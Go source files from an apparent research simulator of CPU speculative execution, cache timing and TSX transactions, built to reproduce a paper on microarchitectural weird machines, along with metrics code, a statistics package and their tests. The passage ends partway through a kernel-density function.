			// AND chain honest when another chain already requested an
			// operand (Figure 3's ordering).
			c.stats.MSHRMerges++
			return done - issue
		}
		// Entry drained — or the line was evicted after the original
		// fill (this access is a brand-new miss, re-registered below).
		// Without the presence check, a stale entry could service a
		// read of a line an eviction-set gate just pushed out, making
		// the gate misread its own output.
		delete(c.inflight, line)
	}
	if lvl != cache.LevelL1 {
		c.inflight[line] = issue + lat
	}
	return lat
}

// writeReg sets a register's architectural value and readiness.
func (c *CPU) writeReg(r isa.Reg, v uint64, readyAt int64) {
	c.regs[r] = v
	c.ready[r] = readyAt
	c.trackChain(r)
	if c.tracing() {
		c.record(trace.KindRegWrite, 0, 0, v, r.String())
	}
}

// bump advances the completion horizon.
func (c *CPU) bump(done int64) {
	if done > c.horizon {
		c.horizon = done
	}
}

// serialize waits for all in-flight work (lfence;rdtscp semantics).
// Every pending fill has completed afterwards, so the MSHR set empties.
func (c *CPU) serialize() {
	if c.horizon > c.clock {
		c.clock = c.horizon
	}
	for line := range c.inflight {
		if c.inflight[line] <= c.clock {
			delete(c.inflight, line)
		}
	}
}

func alu(op isa.Op, a, b uint64) uint64 {
	switch op {
	case isa.ADD:
		return a + b
	case isa.SUB:
		return a - b
	case isa.AND:
		return a & b
	case isa.OR:
		return a | b
	case isa.XOR:
		return a ^ b
	default:
		panic("cpu: not an ALU op")
	}
}

func maxi(a, b int64) int64 {
	if a > b {
		return a
	}
	return b
}

// indexOf maps a code address back to its instruction index.
func indexOf(prog *isa.Program, addr mem.Addr) (int, error) {
	if addr < prog.Base || addr >= prog.End() || (addr-prog.Base)%isa.InstBytes != 0 {
		return 0, fmt.Errorf("cpu: return to %#x outside program", uint64(addr))
	}
	return int((addr - prog.Base) / isa.InstBytes), nil
}
