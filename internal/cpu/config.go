// Package cpu implements the cycle-level execution model the μWM runs
// on. It executes isa programs against a simulated memory, cache
// hierarchy and branch prediction unit, modelling exactly the phenomena
// the paper's weird gates exploit:
//
//   - committed (architectural) execution with a pipelined timing model:
//     loads complete asynchronously, so a conditional branch whose
//     condition was flushed from the cache resolves late;
//   - erroneous speculative execution: on a mispredicted branch, the
//     wrong-path instructions execute in dataflow order until the branch
//     resolves; their cache side effects persist, their architectural
//     effects do not;
//   - TSX-style transactions: a faulting instruction aborts the region
//     and rolls back architectural state, but the pipeline keeps
//     executing the following instructions transiently for a bounded
//     post-fault window (the paper's §4 observation, after ZombieLoad);
//   - timing reads (serializing RDTSC) with measurement overhead, jitter
//     and rare interrupt outliers;
//   - functional-unit and ROB contention, which back the contention-based
//     weird registers of Table 1.
package cpu

import (
	"uwm/internal/cache"
)

// Config holds every latency and structural parameter of the model. The
// defaults (DefaultConfig) are calibrated so measured timings and gate
// accuracies land in the bands the paper reports; ablation benchmarks
// vary them deliberately.
type Config struct {
	// Hierarchy is the cache geometry and latencies.
	Hierarchy cache.HierarchyConfig

	// PredictorSize is the number of direction-predictor entries.
	PredictorSize int
	// UseGShare selects the history-hashed predictor instead of the
	// per-PC bimodal one (an ablation: gshare makes repeated
	// mistraining harder, as §4 warns).
	UseGShare bool
	// GShareHistoryBits is the global history length for gshare.
	GShareHistoryBits uint
	// BTBSize is the number of branch target buffer entries.
	BTBSize int
	// RSBDepth is the return stack depth.
	RSBDepth int

	// MispredictPenalty is the pipeline refill cost after a resolved
	// misprediction, in cycles.
	MispredictPenalty int64
	// IFetchMissPenalty is the extra front-end cost (decode restart,
	// fetch-pipeline refill) of an instruction fetch served from DRAM.
	// It is what makes the IC-WR race robust: a flushed gate body pays
	// DRAM latency plus this penalty, reliably losing against a
	// speculative window whose length is a bare DRAM data load.
	IFetchMissPenalty int64
	// BTBMissPenalty is the redirect cost of a jump whose target was
	// not in the BTB (or was wrong).
	BTBMissPenalty int64

	// ALULatency, MulLatency, DivLatency are execution latencies.
	ALULatency int64
	MulLatency int64
	DivLatency int64
	// FlushLatency is the cost of a clflush.
	FlushLatency int64
	// RdtscLatency is the cost of the serializing timestamp read; it
	// is the constant ~30-cycle floor under every measured latency in
	// the paper's Tables 6 and 7.
	RdtscLatency int64

	// TSXWindow is the base length, in cycles, of the post-fault
	// transient execution window inside a transaction.
	TSXWindow int64
	// TSXAbortPenalty is the cost of rolling back an aborted
	// transaction and redirecting to the handler.
	TSXAbortPenalty int64
	// XBeginLatency and XEndLatency cost the region markers.
	XBeginLatency int64
	XEndLatency   int64

	// MaxSpecInsts bounds one speculative window (hardware analogue:
	// ROB capacity).
	MaxSpecInsts int
	// MaxSteps bounds one Run call, guarding against runaway
	// programs.
	MaxSteps int

	// MulPressureHalfLife controls the decay, in cycles, of multiply-
	// unit contention; MulContentionFactor scales the extra latency
	// per unit of pressure. Together they make MUL-contention weird
	// registers volatile, as Table 1 describes.
	MulPressureHalfLife float64
	MulContentionFactor float64

	// ROBPressureHalfLife and ROBStallFactor model reorder-buffer
	// pressure from long dependency chains; every committed
	// instruction's front-end cost grows by pressure×factor cycles, so
	// contention is graded rather than a threshold cliff.
	ROBPressureHalfLife float64
	ROBStallFactor      float64
}

// DefaultConfig returns the calibrated model parameters (see package
// documentation). Timed loads measure ≈35 cycles on an L1 hit and ≈224
// cycles on a DRAM access, matching the medians of Tables 6 and 7.
func DefaultConfig() Config {
	return Config{
		Hierarchy:         cache.DefaultHierarchyConfig(),
		PredictorSize:     4096,
		GShareHistoryBits: 12,
		BTBSize:           1024,
		RSBDepth:          16,

		MispredictPenalty: 20,
		IFetchMissPenalty: 45,
		BTBMissPenalty:    20,

		ALULatency:   1,
		MulLatency:   3,
		DivLatency:   24,
		FlushLatency: 4,
		RdtscLatency: 30,

		TSXWindow:       160,
		TSXAbortPenalty: 140,
		XBeginLatency:   10,
		XEndLatency:     10,

		MaxSpecInsts: 256,
		MaxSteps:     4_000_000,

		MulPressureHalfLife: 128,
		MulContentionFactor: 1.5,

		ROBPressureHalfLife: 96,
		ROBStallFactor:      0.15,
	}
}

// defaultMemLatency is applied when the hierarchy config carries a zero
// memory latency (callers composing configs by hand).
const defaultMemLatency = 175

func (c *Config) normalize() {
	if c.Hierarchy.MemLatency == 0 {
		c.Hierarchy.MemLatency = defaultMemLatency
	}
	if c.MaxSteps == 0 {
		c.MaxSteps = 4_000_000
	}
	if c.MaxSpecInsts == 0 {
		c.MaxSpecInsts = 256
	}
	if c.PredictorSize == 0 {
		c.PredictorSize = 4096
	}
	if c.BTBSize == 0 {
		c.BTBSize = 1024
	}
	if c.RSBDepth == 0 {
		c.RSBDepth = 16
	}
}
