package cpu

import (
	"testing"

	"uwm/internal/branch"
	"uwm/internal/cache"
	"uwm/internal/isa"
	"uwm/internal/metrics"
)

// TestRegisterMetrics runs a program with a cold-load conditional
// branch (a mispredict with a real speculative window) and checks that
// every layer's counters surface through the registry.
func TestRegisterMetrics(t *testing.T) {
	r := newRig()
	reg := metrics.NewRegistry()
	r.cpu.RegisterMetrics(reg)

	x := r.layout.AllocLine("x")
	b := isa.NewBuilder(0x1000)
	b.Label("main").
		Load(isa.R1, x, 0).  // cold miss: the condition resolves late
		Load(isa.R2, x, 8).  // same line, fill in flight: MSHR merge
		Brz(isa.R1, "done"). // taken (mem reads 0), predicted not-taken
		Nop()
	b.Label("done").
		Halt()
	r.mustRun(t, b.MustBuild(), "main")

	for _, name := range []string{
		MetricCommitted,
		MetricMispredicts,
		MetricSpecWindows,
		MetricMSHRMerges,
		branch.MetricPredictions,
		branch.MetricTraining,
	} {
		if v, ok := reg.Value(name); !ok || v < 1 {
			t.Errorf("%s = %v,%v, want ≥ 1", name, v, ok)
		}
	}
	if v, ok := reg.Value(MetricTSC); !ok || v <= 0 {
		t.Errorf("TSC gauge = %v,%v", v, ok)
	}
	if v, ok := reg.Value(cache.MetricMisses, metrics.L("level", "L1D")); !ok || v < 1 {
		t.Errorf("L1D misses = %v,%v, want ≥ 1", v, ok)
	}
	if h := reg.HistogramValue(MetricSpecWindow); h == nil || h.Count() < 1 {
		t.Errorf("spec-window histogram missing or empty")
	}
}

// TestRegisterMetricsTwice models the HPC detector attaching a private
// registry next to the session one: both must read the same counters,
// and the window histogram must stay bound to the first registry.
func TestRegisterMetricsTwice(t *testing.T) {
	r := newRig()
	first := metrics.NewRegistry()
	second := metrics.NewRegistry()
	r.cpu.RegisterMetrics(first)
	hist := r.cpu.histSpec
	r.cpu.RegisterMetrics(second)
	if r.cpu.histSpec != hist {
		t.Error("second registration re-bound the window histogram")
	}

	b := isa.NewBuilder(0x1000)
	b.Label("main").Nop().Halt()
	r.mustRun(t, b.MustBuild(), "main")

	v1, _ := first.Value(MetricCommitted)
	v2, _ := second.Value(MetricCommitted)
	if v1 != v2 || v1 < 1 {
		t.Errorf("registries disagree: %v vs %v", v1, v2)
	}
}
