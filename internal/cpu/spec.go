package cpu

import (
	"uwm/internal/isa"
	"uwm/internal/mem"
	"uwm/internal/trace"
)

// speculate executes the transient path starting at idx in dataflow
// order between start and deadline cycles. This single routine is the
// engine behind both weird-gate families:
//
//   - wrong-path execution after a branch misprediction (deadline =
//     branch resolution time, i.e. when the flushed condition load
//     returns from DRAM), and
//   - post-fault transient execution inside a TSX region (deadline =
//     fault time + TSXWindow).
//
// Timing rules (the paper's race conditions, made explicit):
//
//   - instruction fetch is sequential; a fetch that completes after the
//     deadline starves the rest of the path (this is the IC-WR input:
//     a flushed gate body never executes);
//   - an instruction *issues* once its fetch is done and its source
//     registers are ready; issue at or before the deadline is what
//     makes its cache side effect land — a memory request launched
//     inside the window completes in the cache even if the data comes
//     back after the squash;
//   - a source produced by a load that could not issue is never ready,
//     so dependants transitively starve (this is how a flushed DC-WR
//     input kills the pointer-chase chain of a TSX gate);
//   - architectural state (registers, memory) is never modified; stores
//     only exercise their write-allocate cache fill.
func (c *CPU) speculate(prog *isa.Program, idx int, start, deadline int64, res *Result) {
	res.SpecWindows++
	c.stats.SpecWindows++
	c.histSpec.Observe(float64(deadline - start))
	c.record(trace.KindSpecStart, 0, 0, uint64(deadline-start), "window open")

	var specRegs [isa.NumRegs]uint64 = c.regs
	var ready [isa.NumRegs]int64
	for i := range ready {
		ready[i] = start
		if c.ready[i] > start {
			ready[i] = c.ready[i]
		}
	}

	sfc := start // speculative fetch clock
	count := 0

	readySrc := func(r isa.Reg) int64 { return ready[r] }
	issueOK := func(t int64) bool { return t <= deadline }

loop:
	for idx >= 0 && idx < len(prog.Code) && count < c.cfg.MaxSpecInsts {
		inst := &prog.Code[idx]
		count++

		// Transient fetch fills the I-cache like any other fetch.
		sfc += c.fetchLatency(inst.Addr)
		if sfc > deadline {
			break // fetch starved: body was not in the instruction cache
		}
		if c.tracing() {
			c.record(trace.KindSpecExec, inst.Addr, 0, 0, inst.String())
		}
		res.SpecInsts++
		c.stats.SpecInsts++

		switch inst.Op {
		case isa.NOP:
			// nothing

		case isa.HALT, isa.XEND, isa.XABORT:
			break loop

		case isa.MOVI:
			ready[inst.Dst] = sfc + c.cfg.ALULatency
			specRegs[inst.Dst] = uint64(inst.Imm)

		case isa.MOV:
			t := maxi(sfc, readySrc(inst.Src1))
			if issueOK(t) && readySrc(inst.Src1) < neverReady {
				ready[inst.Dst] = t + c.cfg.ALULatency
				specRegs[inst.Dst] = specRegs[inst.Src1]
			} else {
				ready[inst.Dst] = neverReady
			}

		case isa.LOAD:
			addr := inst.SymAddr + mem.Addr(inst.Imm)
			t := sfc
			if issueOK(t) {
				lat := c.specAccess(addr, t)
				ready[inst.Dst] = t + lat
				specRegs[inst.Dst] = c.mem.Read64(addr)
			} else {
				ready[inst.Dst] = neverReady
			}

		case isa.LOADR:
			t := maxi(sfc, readySrc(inst.Src1))
			if issueOK(t) && readySrc(inst.Src1) < neverReady {
				addr := mem.Addr(specRegs[inst.Src1]) + mem.Addr(inst.Imm)
				lat := c.specAccess(addr, t)
				ready[inst.Dst] = t + lat
				specRegs[inst.Dst] = c.mem.Read64(addr)
			} else {
				ready[inst.Dst] = neverReady
			}

		case isa.ADDM:
			t := maxi(sfc, readySrc(inst.Dst))
			if issueOK(t) && readySrc(inst.Dst) < neverReady {
				addr := inst.SymAddr + mem.Addr(inst.Imm)
				lat := c.specAccess(addr, t)
				ready[inst.Dst] = t + lat + c.cfg.ALULatency
				specRegs[inst.Dst] += c.mem.Read64(addr)
			} else {
				ready[inst.Dst] = neverReady
			}

		case isa.STORE:
			// Write-allocate fill only; no architectural write.
			if issueOK(sfc) {
				c.specAccess(inst.SymAddr+mem.Addr(inst.Imm), sfc)
			}

		case isa.STORR:
			t := maxi(sfc, readySrc(inst.Src1))
			if issueOK(t) && readySrc(inst.Src1) < neverReady {
				c.specAccess(mem.Addr(specRegs[inst.Src1])+mem.Addr(inst.Imm), t)
			}

		case isa.ADD, isa.SUB, isa.AND, isa.OR, isa.XOR:
			t := maxi(sfc, maxi(readySrc(inst.Src1), readySrc(inst.Src2)))
			if issueOK(t) && readySrc(inst.Src1) < neverReady && readySrc(inst.Src2) < neverReady {
				ready[inst.Dst] = t + c.cfg.ALULatency
				specRegs[inst.Dst] = alu(inst.Op, specRegs[inst.Src1], specRegs[inst.Src2])
			} else {
				ready[inst.Dst] = neverReady
			}

		case isa.ADDI:
			t := maxi(sfc, readySrc(inst.Src1))
			if issueOK(t) && readySrc(inst.Src1) < neverReady {
				ready[inst.Dst] = t + c.cfg.ALULatency
				specRegs[inst.Dst] = specRegs[inst.Src1] + uint64(inst.Imm)
			} else {
				ready[inst.Dst] = neverReady
			}

		case isa.SHL, isa.SHR:
			t := maxi(sfc, readySrc(inst.Src1))
			if issueOK(t) && readySrc(inst.Src1) < neverReady {
				ready[inst.Dst] = t + c.cfg.ALULatency
				if inst.Op == isa.SHL {
					specRegs[inst.Dst] = specRegs[inst.Src1] << uint(inst.Imm&63)
				} else {
					specRegs[inst.Dst] = specRegs[inst.Src1] >> uint(inst.Imm&63)
				}
			} else {
				ready[inst.Dst] = neverReady
			}

		case isa.MUL:
			t := maxi(sfc, maxi(readySrc(inst.Src1), readySrc(inst.Src2)))
			if issueOK(t) && readySrc(inst.Src1) < neverReady && readySrc(inst.Src2) < neverReady {
				lat := c.mulLatency()
				c.addMulPressure(1) // transient MULs still occupy the unit
				ready[inst.Dst] = t + lat
				specRegs[inst.Dst] = specRegs[inst.Src1] * specRegs[inst.Src2]
			} else {
				ready[inst.Dst] = neverReady
			}

		case isa.DIV:
			if specRegs[inst.Src2] == 0 {
				break loop // a fault in the shadow of the window stops it
			}
			t := maxi(sfc, maxi(readySrc(inst.Src1), readySrc(inst.Src2)))
			if issueOK(t) && readySrc(inst.Src1) < neverReady && readySrc(inst.Src2) < neverReady {
				ready[inst.Dst] = t + c.cfg.DivLatency
				specRegs[inst.Dst] = specRegs[inst.Src1] / specRegs[inst.Src2]
			} else {
				ready[inst.Dst] = neverReady
			}

		case isa.CLF, isa.CLFL:
			// clflush is ordered and never executes transiently.

		case isa.RDTSC:
			ready[inst.Dst] = sfc
			specRegs[inst.Dst] = uint64(sfc)

		case isa.FENCE:
			for _, r := range ready {
				if r < neverReady && r > sfc {
					sfc = r
				}
			}

		case isa.BRZ, isa.BRNZ:
			// Nested speculation is not modelled: follow the resolved
			// direction when the condition is ready inside the window,
			// the predicted one otherwise.
			taken := specRegs[inst.Src1] == 0
			if inst.Op == isa.BRNZ {
				taken = !taken
			}
			if readySrc(inst.Src1) > deadline {
				taken = c.dir.Predict(inst.Addr)
			}
			if taken {
				idx = inst.TargetIdx
				continue
			}

		case isa.JMP:
			idx = inst.TargetIdx
			continue

		case isa.CALL:
			specRegs[inst.Dst] = uint64(inst.Addr + isa.InstBytes)
			ready[inst.Dst] = sfc
			idx = inst.TargetIdx
			continue

		case isa.RET:
			// Follow the link value when it is known inside the
			// window; an unresolved return target stalls the path.
			if readySrc(inst.Src1) > deadline {
				break loop
			}
			target, err := indexOf(prog, mem.Addr(specRegs[inst.Src1]))
			if err != nil {
				break loop
			}
			idx = target
			continue

		case isa.XBEGIN:
			// A transactional begin on the wrong path has no effect.
		}
		idx++
	}

	c.record(trace.KindSpecEnd, 0, 0, uint64(count), "window closed")
}

// specAccess performs a transient data access issued at the given
// cycle: the cache fill is the whole point. Latency gets DRAM jitter and
// MSHR merging like committed accesses.
func (c *CPU) specAccess(addr mem.Addr, issue int64) int64 {
	lat := c.memAccess(addr, issue)
	if c.tracing() {
		c.record(trace.KindCacheFill, 0, addr, uint64(lat), "transient fill")
	}
	return lat
}
