package cpu

import (
	"math"

	"uwm/internal/isa"
)

// Functional-unit and reorder-buffer contention modelling. These back
// the contention-based weird registers of the paper's Table 1 ("mul
// func. units" and "ROB contention"): executing multiplies raises
// pressure on the multiply unit, which raises the latency of subsequent
// multiplies until the pressure decays; long dependency chains raise ROB
// pressure, stalling the front end. Both are volatile by construction —
// the stored bit evaporates after a few hundred cycles, the volatility
// property of §3.1.

// decayPressure applies exponential decay with the given half-life to a
// pressure value last updated at stamp, as of now. Pressure below the
// observability floor is snapped to zero — no timing effect can see it,
// and the early-out keeps the exp off the per-instruction hot path.
func decayPressure(p float64, stamp, now int64, halfLife float64) float64 {
	if p == 0 || halfLife <= 0 || now <= stamp {
		return p
	}
	if p < 0.25 {
		return 0
	}
	return p * math.Exp2(-float64(now-stamp)/halfLife)
}

// mulLatency returns the current multiply latency, including the
// contention surcharge.
func (c *CPU) mulLatency() int64 {
	c.mulPressure = decayPressure(c.mulPressure, c.mulStamp, c.clock, c.cfg.MulPressureHalfLife)
	c.mulStamp = c.clock
	extra := int64(c.mulPressure * c.cfg.MulContentionFactor)
	return c.cfg.MulLatency + extra
}

// addMulPressure records occupancy of the multiply unit.
func (c *CPU) addMulPressure(n float64) {
	c.mulPressure = decayPressure(c.mulPressure, c.mulStamp, c.clock, c.cfg.MulPressureHalfLife)
	c.mulStamp = c.clock
	c.mulPressure += n
}

// MulPressure exposes the current (decayed) multiply-unit pressure for
// tests of the contention weird register.
func (c *CPU) MulPressure() float64 {
	return decayPressure(c.mulPressure, c.mulStamp, c.clock, c.cfg.MulPressureHalfLife)
}

// trackChain updates ROB pressure: a destination register that feeds the
// immediately following instruction extends a dependency chain, filling
// the reorder buffer with waiting entries.
func (c *CPU) trackChain(dst isa.Reg) {
	c.robPressure = decayPressure(c.robPressure, c.robStamp, c.clock, c.cfg.ROBPressureHalfLife)
	c.robStamp = c.clock
	if c.hasLastDst && c.lastDst == dst {
		c.robPressure++
	}
	c.lastDst = dst
	c.hasLastDst = true
}

// robStall charges the front end proportionally to ROB pressure.
func (c *CPU) robStall() {
	c.robPressure = decayPressure(c.robPressure, c.robStamp, c.clock, c.cfg.ROBPressureHalfLife)
	c.robStamp = c.clock
	if c.cfg.ROBStallFactor > 0 {
		c.clock += int64(c.robPressure * c.cfg.ROBStallFactor)
	}
}

// ROBPressure exposes the current (decayed) reorder-buffer pressure for
// tests of the contention weird register.
func (c *CPU) ROBPressure() float64 {
	return decayPressure(c.robPressure, c.robStamp, c.clock, c.cfg.ROBPressureHalfLife)
}
