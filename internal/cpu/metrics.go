package cpu

import (
	"uwm/internal/branch"
	"uwm/internal/metrics"
)

// Metric series exported by the CPU model. The analyzer's HPC detector
// reads the same names, so they are constants rather than literals.
const (
	MetricCommitted      = "uwm_cpu_committed_total"
	MetricMispredicts    = "uwm_cpu_mispredicts_total"
	MetricSpecWindows    = "uwm_cpu_spec_windows_total"
	MetricSpecInsts      = "uwm_cpu_spec_insts_total"
	MetricTxBegins       = "uwm_cpu_tx_begins_total"
	MetricTxCommits      = "uwm_cpu_tx_commits_total"
	MetricTxAborts       = "uwm_cpu_tx_aborts_total"
	MetricSpuriousAborts = "uwm_cpu_tx_spurious_aborts_total"
	MetricObservedAborts = "uwm_cpu_tx_observed_aborts_total"
	MetricMSHRMerges     = "uwm_cpu_mshr_merges_total"
	MetricTSC            = "uwm_cpu_tsc_cycles"
	MetricSpecWindow     = "uwm_cpu_spec_window_cycles"
)

// RegisterMetrics exposes the CPU's counters — and those of its cache
// hierarchy and branch prediction unit — on reg. Lifetime counters are
// read lazily from Stats at scrape time, so instrumentation costs the
// hot path nothing; the spec-window histogram is the one live
// instrument, observed once per opened window.
//
// Registering on several registries is allowed (the HPC detector
// attaches a private one); the window histogram stays bound to the
// first registry that claims it.
func (c *CPU) RegisterMetrics(reg *metrics.Registry) {
	if reg == nil {
		return
	}
	for _, m := range []struct {
		name, help string
		read       func() uint64
	}{
		{MetricCommitted, "instructions committed", func() uint64 { return c.stats.Committed }},
		{MetricMispredicts, "conditional branch mispredictions", func() uint64 { return c.stats.Mispredicts }},
		{MetricSpecWindows, "speculative windows opened", func() uint64 { return c.stats.SpecWindows }},
		{MetricSpecInsts, "instructions executed transiently", func() uint64 { return c.stats.SpecInsts }},
		{MetricTxBegins, "transactional regions entered", func() uint64 { return c.stats.TxBegins }},
		{MetricTxCommits, "transactional regions committed", func() uint64 { return c.stats.TxCommits }},
		{MetricTxAborts, "transactional regions aborted", func() uint64 { return c.stats.TxAborts }},
		{MetricSpuriousAborts, "noise-injected transaction aborts", func() uint64 { return c.stats.SpuriousAborts }},
		{MetricObservedAborts, "aborts forced by an attached debugger", func() uint64 { return c.stats.ObservedAborts }},
		{MetricMSHRMerges, "accesses merged into an in-flight fill", func() uint64 { return c.stats.MSHRMerges }},
	} {
		reg.CounterFunc(m.name, m.help, m.read)
	}
	reg.GaugeFunc(MetricTSC, "virtual cycles elapsed (TSC)",
		func() float64 { return float64(c.clock) })
	if c.histSpec == nil {
		c.histSpec = reg.Histogram(MetricSpecWindow,
			"speculative window length in cycles", metrics.DefaultWindowBuckets())
	}
	c.hier.RegisterMetrics(reg)
	branch.RegisterMetrics(reg, c.dir, c.btb, c.rsb)
}
