package stats

import (
	"math"
	"testing"
)

func near(t *testing.T, name string, got, want, tol float64) {
	t.Helper()
	if math.Abs(got-want) > tol {
		t.Errorf("%s = %v, want %v (±%v)", name, got, want, tol)
	}
}

// TestMeanCI checks the 95% interval for 1..10 against the textbook
// value: mean 5.5, sd 3.0277, t(9, .95) = 2.262 → 5.5 ± 2.166.
func TestMeanCI(t *testing.T) {
	xs := []float64{1, 2, 3, 4, 5, 6, 7, 8, 9, 10}
	iv := MeanCI(xs, 0.95)
	near(t, "mean", iv.Mean, 5.5, 1e-9)
	near(t, "lo", iv.Lo, 3.334, 0.005)
	near(t, "hi", iv.Hi, 7.666, 0.005)
	if iv.N != 10 {
		t.Errorf("N = %d", iv.N)
	}
}

func TestMeanCIDegenerate(t *testing.T) {
	for _, xs := range [][]float64{nil, {7}} {
		iv := MeanCI(xs, 0.95)
		if iv.Lo != iv.Mean || iv.Hi != iv.Mean {
			t.Errorf("MeanCI(%v) = %+v, want collapsed interval", xs, iv)
		}
	}
	// Constant sample: zero stddev, zero-width interval.
	iv := MeanCI([]float64{3, 3, 3, 3}, 0.95)
	near(t, "const lo", iv.Lo, 3, 1e-12)
	near(t, "const hi", iv.Hi, 3, 1e-12)
}

func TestTCritical(t *testing.T) {
	cases := []struct {
		df   int
		conf float64
		want float64
	}{
		{1, 0.95, 12.706},
		{9, 0.95, 2.262},
		{30, 0.95, 2.042},
		{1000, 0.95, 1.960}, // converges to the normal quantile
		{9, 0.99, 3.250},
		{9, 0.90, 1.833},
		{9, 0.97, 2.262}, // snaps to the nearest supported level (0.95)
	}
	for _, c := range cases {
		near(t, "tCritical", tCritical(c.df, c.conf), c.want, 1e-9)
	}
}

// TestMannWhitneySeparated reproduces the classic fixture: {1..5} vs
// {6..10} gives U = 0; the normal approximation yields z ≈ −2.611 and a
// two-sided p ≈ 0.009 (scipy's ranksums reports 0.0090).
func TestMannWhitneySeparated(t *testing.T) {
	xs := []float64{1, 2, 3, 4, 5}
	ys := []float64{6, 7, 8, 9, 10}
	u := MannWhitney(xs, ys)
	near(t, "U", u.U, 0, 1e-9)
	near(t, "Z", u.Z, -2.611, 0.005)
	near(t, "P", u.P, 0.0090, 0.0005)

	// Symmetry: swapping the samples flips U and Z, keeps P.
	v := MannWhitney(ys, xs)
	near(t, "U swapped", v.U, 25, 1e-9)
	near(t, "Z swapped", v.Z, 2.611, 0.005)
	near(t, "P swapped", v.P, u.P, 1e-12)
}

// TestMannWhitneyInterleaved: perfectly interleaved samples carry no
// evidence of a shift.
func TestMannWhitneyInterleaved(t *testing.T) {
	xs := []float64{1, 3, 5, 7}
	ys := []float64{2, 4, 6, 8}
	u := MannWhitney(xs, ys)
	if u.P < 0.5 {
		t.Errorf("interleaved samples: p = %v, want ≥ 0.5", u.P)
	}
}

func TestMannWhitneyDegenerate(t *testing.T) {
	if p := MannWhitney(nil, []float64{1, 2}).P; p != 1 {
		t.Errorf("empty xs: p = %v, want 1", p)
	}
	if p := MannWhitney([]float64{1, 2}, nil).P; p != 1 {
		t.Errorf("empty ys: p = %v, want 1", p)
	}
	// All values tied: zero variance, no verdict.
	if p := MannWhitney([]float64{5, 5, 5}, []float64{5, 5}).P; p != 1 {
		t.Errorf("all ties: p = %v, want 1", p)
	}
}

// TestMannWhitneyTies checks the tie-corrected variance on a worked
// fixture: xs={1,2,2,3}, ys={2,3,3,4}. Pooled ranks average to
// {1,3,3,6} for xs, so U = 13 − 10 = 3; the tie term is 48, giving
// variance 10.857, z = −1.517 and a two-sided p ≈ 0.129 (matching
// scipy.stats.mannwhitneyu, method="asymptotic", use_continuity=False).
func TestMannWhitneyTies(t *testing.T) {
	xs := []float64{1, 2, 2, 3}
	ys := []float64{2, 3, 3, 4}
	u := MannWhitney(xs, ys)
	near(t, "U ties", u.U, 3, 1e-9)
	near(t, "Z ties", u.Z, -1.5174, 0.002)
	near(t, "P ties", u.P, 0.1293, 0.003)
}
