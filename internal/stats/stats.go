// Package stats implements the small statistics toolkit the evaluation
// harness uses to reproduce the paper's tables and figures: five-number
// summaries with mean and standard deviation (Tables 3, 6, 7), histograms
// (Figure 6) and Gaussian kernel density estimates (Figures 7 and 8).
package stats

import (
	"fmt"
	"math"
	"sort"
	"strings"
)

// Summary is the descriptive statistics row used throughout the paper's
// evaluation section: minimum, quartiles, maximum, standard deviation and
// mean of a sample.
type Summary struct {
	N      int
	Min    float64
	Q1     float64
	Median float64
	Q3     float64
	Max    float64
	StdDev float64
	Mean   float64
}

// Summarize computes a Summary of xs. It returns the zero Summary when xs
// is empty. xs is not modified.
func Summarize(xs []float64) Summary {
	if len(xs) == 0 {
		return Summary{}
	}
	sorted := append([]float64(nil), xs...)
	sort.Float64s(sorted)

	var sum float64
	for _, x := range sorted {
		sum += x
	}
	mean := sum / float64(len(sorted))

	var ss float64
	for _, x := range sorted {
		d := x - mean
		ss += d * d
	}
	var sd float64
	if len(sorted) > 1 {
		sd = math.Sqrt(ss / float64(len(sorted)-1))
	}

	return Summary{
		N:      len(sorted),
		Min:    sorted[0],
		Q1:     Quantile(sorted, 0.25),
		Median: Quantile(sorted, 0.5),
		Q3:     Quantile(sorted, 0.75),
		Max:    sorted[len(sorted)-1],
		StdDev: sd,
		Mean:   mean,
	}
}

// SummarizeInts converts xs to float64 and summarizes them.
func SummarizeInts(xs []int64) Summary {
	fs := make([]float64, len(xs))
	for i, x := range xs {
		fs[i] = float64(x)
	}
	return Summarize(fs)
}

// Quantile returns the q-quantile (0 ≤ q ≤ 1) of sorted, which must be in
// ascending order, using linear interpolation between order statistics.
func Quantile(sorted []float64, q float64) float64 {
	switch {
	case len(sorted) == 0:
		return 0
	case len(sorted) == 1:
		return sorted[0]
	case q <= 0:
		return sorted[0]
	case q >= 1:
		return sorted[len(sorted)-1]
	}
	pos := q * float64(len(sorted)-1)
	lo := int(math.Floor(pos))
	hi := int(math.Ceil(pos))
	if lo == hi {
		return sorted[lo]
	}
	frac := pos - float64(lo)
	return sorted[lo]*(1-frac) + sorted[hi]*frac
}

// MedianInt64 returns the median of xs (lower-middle for even lengths,
// matching the paper's skelly timing-median selection). It panics on an
// empty slice.
func MedianInt64(xs []int64) int64 {
	if len(xs) == 0 {
		panic("stats: median of empty slice")
	}
	sorted := append([]int64(nil), xs...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
	return sorted[(len(sorted)-1)/2]
}

// Bin is one histogram bucket over [Lo, Hi) holding Count samples.
type Bin struct {
	Lo, Hi float64
	Count  int
}

// Histogram buckets xs into n equal-width bins spanning [min, max]. The
// final bin is closed on the right so the maximum is counted.
func Histogram(xs []float64, n int) []Bin {
	if len(xs) == 0 || n <= 0 {
		return nil
	}
	lo, hi := xs[0], xs[0]
	for _, x := range xs {
		if x < lo {
			lo = x
		}
		if x > hi {
			hi = x
		}
	}
	if hi == lo {
		hi = lo + 1
	}
	width := (hi - lo) / float64(n)
	bins := make([]Bin, n)
	for i := range bins {
		bins[i].Lo = lo + float64(i)*width
		bins[i].Hi = bins[i].Lo + width
	}
	for _, x := range xs {
		idx := int((x - lo) / width)
		if idx >= n {
			idx = n - 1
		}
		bins[idx].Count++
	}
	return bins
}

// HistogramInts buckets integer samples with unit-aligned bins of the
// given width starting at the sample minimum.
func HistogramInts(xs []int64, width int64) []Bin {
	if len(xs) == 0 || width <= 0 {
		return nil
	}
	lo, hi := xs[0], xs[0]
	for _, x := range xs {
		if x < lo {
			lo = x
		}
		if x > hi {
			hi = x
		}
	}
	n := int((hi-lo)/width) + 1
	bins := make([]Bin, n)
	for i := range bins {
		bins[i].Lo = float64(lo + int64(i)*width)
		bins[i].Hi = float64(lo + int64(i+1)*width)
	}
	for _, x := range xs {
		bins[(x-lo)/width].Count++
	}
	return bins
}

// Point is one (x, density) sample of a kernel density estimate.
type Point struct {
	X, Density float64
}

// KDE computes a Gaussian kernel density estimate of xs evaluated at
// points equally spaced samples across [min-3h, max+3h], where h is the
// bandwidth. A non-positive bandwidth selects Silverman's rule of thumb.
// This reproduces the measured-timing KDE plots of Figures 7 and 8.
func KDE(xs []float64, bandwidth float64, points int) []Point {
